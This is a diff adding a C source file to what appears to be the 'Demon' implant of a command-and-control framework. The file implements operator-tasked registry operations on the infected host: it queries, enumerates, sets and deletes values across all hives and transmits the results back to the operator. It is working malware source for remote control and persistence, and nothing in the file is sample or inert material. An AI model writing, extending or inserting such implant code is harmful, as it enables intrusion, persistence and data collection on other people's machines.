@@ -0,0 +1,182 @@
+#include <Demon.h>
+#include <core/Registry.h>
+#include <core/MiniStd.h>
+#include <core/Package.h>
+#include <core/Command.h>
+#include <core/Memory.h>
+
+/*!
+ * Adds the value with its type and data to the package.
+ * @param Package package to add the value to
+ * @param Key key of the value
+ * @param Name name of the value
+ * @return status of the query
+ */
+static LSTATUS RegistryAddValue(
+    IN PPACKAGE Package,
+    IN HKEY     Key,
+    IN PWCHAR   Name
+) {
+    LSTATUS Status = ERROR_SUCCESS;
+    DWORD   Type   = 0;
+    DWORD   Size   = 0;
+    PBYTE   Data   = NULL;
+
+    if ( ( Status = Instance->Win32.RegQueryValueExW( Key, Name, NULL, &Type, NULL, &Size ) ) != ERROR_SUCCESS ) {
+        return Status;
+    }
+
+    if ( Size && ! ( Data = MmHeapAlloc( Size ) ) ) {
+        return ERROR_NOT_ENOUGH_MEMORY;
+    }
+
+    if ( ( Status = Instance->Win32.RegQueryValueExW( Key, Name, NULL, &Type, Data, &Size ) ) == ERROR_SUCCESS ) {
+        PackageAddInt32( Package, REGISTRY_ITEM_VALUE );
+        PackageAddWString( Package, Name );
+        PackageAddInt32( Package, Type );
+        PackageAddBytes( Package, Data, Size > REGISTRY_MAX_DATA ? REGISTRY_MAX_DATA : Size );
+    }
+
+    if ( Data ) {
+        MemSet( Data, 0, Size );
+        MmHeapFree( Data );
+    }
+
+    return Status;
+}
+
+/*!
+ * Adds the subkeys and values of the key to the package.
+ * @param Package package to add the items to
+ * @param Key key to enumerate
+ * @return status of the enumeration
+ */
+static LSTATUS RegistryAddItems(
+    IN PPACKAGE Package,
+    IN HKEY     Key
+) {
+    LSTATUS Status = ERROR_SUCCESS;
+    PWCHAR  Name   = NULL;
+    DWORD   Length = 0;
+    DWORD   Items  = 0;
+
+    if ( ! ( Name = MmHeapAlloc( REGISTRY_MAX_NAME * sizeof( WCHAR ) ) ) ) {
+        return ERROR_NOT_ENOUGH_MEMORY;
+    }
+
+    for ( DWORD Index = 0; Items < REGISTRY_MAX_ITEMS; Index++ ) {
+        Length = REGISTRY_MAX_NAME;
+
+        if ( ( Status = Instance->Win32.RegEnumKeyExW( Key, Index, Name, &Length, NULL, NULL, NULL, NULL ) ) != ERROR_SUCCESS ) {
+            break;
+        }
+
+        PackageAddInt32( Package, REGISTRY_ITEM_SUBKEY );
+        PackageAddWString( Package, Name );
+        Items++;
+    }
+
+    for ( DWORD Index = 0; Items < REGISTRY_MAX_ITEMS; Index++ ) {
+        Length = REGISTRY_MAX_NAME;
+
+        if ( ( Status = Instance->Win32.RegEnumValueW( Key, Index, Name, &Length, NULL, NULL, NULL, NULL ) ) != ERROR_SUCCESS ) {
+            break;
+        }
+
+        /* values that fail to be read (removed meanwhile) are skipped */
+        if ( RegistryAddValue( Package, Key, Name ) == ERROR_SUCCESS ) {
+            Items++;
+        }
+    }
+
+    MmHeapFree( Name );
+
+    PRINTF( "RegistryAddItems: Items:[%d]\n", Items )
+
+    /* the end of the enumeration is how it should finish */
+    if ( Status == ERROR_NO_MORE_ITEMS ) {
+        Status = ERROR_SUCCESS;
+    }
+
+    return Status;
+}
+
+LSTATUS RegistryTask(
+    IN PREGISTRY_TASK Task
+) {
+    HKEY     Hives[]  = { HKEY_LOCAL_MACHINE, HKEY_CURRENT_USER, HKEY_USERS, HKEY_CLASSES_ROOT, HKEY_CURRENT_CONFIG };
+    PPACKAGE Package  = NULL;
+    HKEY     Key      = NULL;
+    LSTATUS  Status   = ERROR_INVALID_PARAMETER;
+    REGSAM   Access   = Task->View & ( KEY_WOW64_32KEY | KEY_WOW64_64KEY );
+
+    Package = PackageCreate( DEMON_COMMAND_REGISTRY );
+
+    PackageAddInt32( Package, Task->Command );
+    PackageAddInt32( Package, Task->Hive );
+    PackageAddWString( Package, Task->Path );
+    PackageAddWString( Package, Task->Name );
+
+    if ( Task->Hive >= sizeof( Hives ) / sizeof( Hives[ 0 ] ) ) {
+        goto END;
+    }
+
+    switch ( Task->Command )
+    {
+        case REGISTRY_COMMAND_QUERY:
+        {
+            if ( ( Status = Instance->Win32.RegOpenKeyExW( Hives[ Task->Hive ], Task->Path, 0, KEY_QUERY_VALUE | Access, &Key ) ) == ERROR_SUCCESS ) {
+                Status = RegistryAddValue( Package, Key, Task->Name );
+            }
+
+            break;
+        }
+
+        case REGISTRY_COMMAND_ENUM:
+        {
+            if ( ( Status = Instance->Win32.RegOpenKeyExW( Hives[ Task->Hive ], Task->Path, 0, KEY_READ | Access, &Key ) ) == ERROR_SUCCESS ) {
+                Status = RegistryAddItems( Package, Key );
+            }
+
+            break;
+        }
+
+        case REGISTRY_COMMAND_SET:
+        {
+            /* creates the key if it doesn't exist yet */
+            if ( ( Status = Instance->Win32.RegCreateKeyExW( Hives[ Task->Hive ], Task->Path, 0, NULL, 0, KEY_QUERY_VALUE | KEY_SET_VALUE | Access, NULL, &Key, NULL ) ) == ERROR_SUCCESS ) {
+                /* the value before the change, if there was one */
+                RegistryAddValue( Package, Key, Task->Name );
+
+                Status = Instance->Win32.RegSetValueExW( Key, Task->Name, 0, Task->Type, Task->Data, Task->Size );
+            }
+
+            break;
+        }
+
+        case REGISTRY_COMMAND_DELETE:
+        {
+            if ( ( Status = Instance->Win32.RegOpenKeyExW( Hives[ Task->Hive ], Task->Path, 0, KEY_QUERY_VALUE | KEY_SET_VALUE | Access, &Key ) ) == ERROR_SUCCESS ) {
+                RegistryAddValue( Package, Key, Task->Name );
+
+                Status = Instance->Win32.RegDeleteValueW( Key, Task->Name );
+            }
+
+            break;
+        }
+    }
+
+    if ( Key ) {
+        Instance->Win32.RegCloseKey( Key );
+    }
+
+END:
+    PRINTF( "RegistryTask: Command:[%d] Hive:[%d] Status:[%d]\n", Task->Command, Task->Hive, Status )
+
+    PackageAddInt32( Package, REGISTRY_ITEM_END );
+    PackageAddInt32( Package, Status );
+
+    PackageTransmit( Package );
+
+    return Status;
+}